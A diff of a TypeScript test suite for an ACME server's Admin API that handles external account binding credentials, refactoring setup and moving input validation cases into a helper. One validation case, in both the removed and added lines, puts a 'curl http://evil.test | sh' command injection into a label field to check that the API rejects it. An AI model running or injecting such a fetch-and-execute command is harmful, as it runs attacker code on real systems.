@@ -1,13 +1,13 @@
 /** Binding credentials over the Admin API (RFC 8555 §7.3.4). */
 
 import assert from 'node:assert/strict'
-import { after, before, describe, test } from 'node:test'
-import { type AcmeClient, closeConnections, createAcmeClient } from '../support/acme-client.ts'
-import { type AdminClient, administrator } from '../support/admin.ts'
+import { describe, test } from 'node:test'
+import { type AcmeClient, createAcmeClient } from '../support/acme-client.ts'
+import { assertNamed } from '../support/admin.ts'
+import { administered } from '../support/administered.ts'
 import { accountIdOf, boundClient, type MadeCredential, made, NOBODY, newestEntries } from '../support/bound.ts'
-import { rowsIn } from '../support/database.ts'
+import { metricOf } from '../support/metrics.ts'
 import { bindingFor } from '../support/operator.ts'
-import type { TestService } from '../support/service.ts'
 import { sharedService } from '../support/shared-service.ts'
 import { until } from '../support/until.ts'
 
@@ -17,17 +17,9 @@ const agreed = (client: AcmeClient, { kid, hmac_key }: MadeCredential) => ({
 })
 
 describe('binding credentials', () => {
-  let service: TestService
-  let admin: AdminClient
-  let auditor: AdminClient
-  before(async () => {
-    service = await sharedService('admin')
-    admin = await administrator(service, 'alice')
-    auditor = await administrator(service, 'audrey', 'auditor')
-  })
-  after(async () => {
-    closeConnections()
-  })
+  const { service, sql, as } = administered(() => sharedService('admin'))
+  const admin = as('alice')
+  const auditor = as('audrey', 'auditor')
 
   let kids = 0
   const create = (more: object = {}) => made<MadeCredential>(admin, '/eab', { kid: `kid-${++kids}`, ...more })
@@ -58,9 +50,7 @@ describe('binding credentials', () => {
 
   test('the list shows by choice those that live on, the expired or the revoked', async () => {
     const [open, expired, revoked] = [await create(), await create({ expires_at: '2100-01-01' }), await create()]
-    await rowsIn(service.database, "UPDATE eab_credentials SET expires_at = now() - interval '1 day' WHERE id = $1", [
-      expired.id,
-    ])
+    await sql("UPDATE eab_credentials SET expires_at = now() - interval '1 day' WHERE id = $1", [expired.id])
     await admin.send('POST', `/eab/${revoked.id}/revoke`)
     const made = [open.id, expired.id, revoked.id]
     const listed = async (status: string) =>
@@ -76,29 +66,25 @@ describe('binding credentials', () => {
   test('a taken kid is a conflict; what is missing or wrong is named', async () => {
     const { kid } = await create()
     assert.equal((await admin.send('POST', '/eab', { kid })).status, 409)
-    for (const [body, field] of [
-      [{}, 'kid'],
-      [{ kid: '  ' }, 'kid'],
-      [{ kid: 'x'.repeat(256) }, 'kid'],
-      [{ kid: 'a\nb' }, 'kid'],
-      [{ kid: 'long-label', label: 'x'.repeat(256) }, 'label'],
-      [{ kid: 'lines', label: 'team\ncurl http://evil.test | sh' }, 'label'],
-      [{ kid: 'ca-profile', profiles: ['none'] }, 'profiles'],
-      [{ kid: 'network', preapproved_networks: ['10.0.0.1/8'] }, 'preapproved_networks'],
-      [{ kid: 'past', expires_at: '2020-01-01' }, 'expires_at'],
-      [{ kid: 'none', max_uses: 0 }, 'max_uses'],
-      [{ kid: 'anywhere', allowed_networks: [] }, 'allowed_networks'],
-      [{ kid: 'mass', revoked: true }, 'revoked'],
-      [{ kid: 'pattern', allowed_identifiers: ['a.test', 'a..test'] }, 'allowed_identifiers'],
-      [{ kid: 'profile', csr_profile_id: 'servers' }, 'csr_profile_id'],
-    ] as const) {
-      const reply = await admin.send('POST', '/eab', body)
-      assert.equal(reply.status, 400, JSON.stringify(body))
-      assert.deepEqual(
-        reply.json.fields.map((one: { field: string }) => one.field),
-        [field],
-      )
-    }
+    await assertNamed(
+      (body) => admin.send('POST', '/eab', body),
+      [
+        [{}, 'kid'],
+        [{ kid: '  ' }, 'kid'],
+        [{ kid: 'x'.repeat(256) }, 'kid'],
+        [{ kid: 'a\nb' }, 'kid'],
+        [{ kid: 'long-label', label: 'x'.repeat(256) }, 'label'],
+        [{ kid: 'lines', label: 'team\ncurl http://evil.test | sh' }, 'label'],
+        [{ kid: 'ca-profile', profiles: ['none'] }, 'profiles'],
+        [{ kid: 'network', preapproved_networks: ['10.0.0.1/8'] }, 'preapproved_networks'],
+        [{ kid: 'past', expires_at: '2020-01-01' }, 'expires_at'],
+        [{ kid: 'none', max_uses: 0 }, 'max_uses'],
+        [{ kid: 'anywhere', allowed_networks: [] }, 'allowed_networks'],
+        [{ kid: 'mass', revoked: true }, 'revoked'],
+        [{ kid: 'pattern', allowed_identifiers: ['a.test', 'a..test'] }, 'allowed_identifiers'],
+        [{ kid: 'profile', csr_profile_id: 'servers' }, 'csr_profile_id'],
+      ],
+    )
   })
 
   test('what it grants is made with it, or nothing is', async () => {
@@ -188,11 +174,7 @@ describe('binding credentials', () => {
     const expires_at = new Date(Date.now() + 3_600_000).toISOString()
     const credential = await create({ expires_at })
     assert.equal((await read(credential.id)).expires_at, expires_at)
-    await rowsIn(
-      service.database,
-      "UPDATE eab_credentials SET expires_at = now() - interval '1 second' WHERE id = $1",
-      [credential.id],
-    )
+    await sql("UPDATE eab_credentials SET expires_at = now() - interval '1 second' WHERE id = $1", [credential.id])
     assert.match(await refusal(credential), /has expired/)
   })
 
@@ -233,12 +215,7 @@ describe('binding credentials', () => {
   })
 
   test('accounts revoked with their credential are counted', async () => {
-    const counted = async () => {
-      const token = (await made<{ token: string }>(admin, '/tokens', { name: 'metrics', role: 'auditor' })).token
-      const headers = { authorization: `Bearer ${token}` }
-      const text = await (await fetch(`${service.baseUrl}/metrics`, { headers })).text()
-      return Number(/^service_accounts_revoked_total(?:\{[^}]*\})? (\d+)$/m.exec(text)?.[1] ?? 0)
-    }
+    const counted = () => metricOf(service, 'accounts_revoked_total', admin.token)
     const credential = await create()
     await boundClient(service, credential)
     const before = await counted()
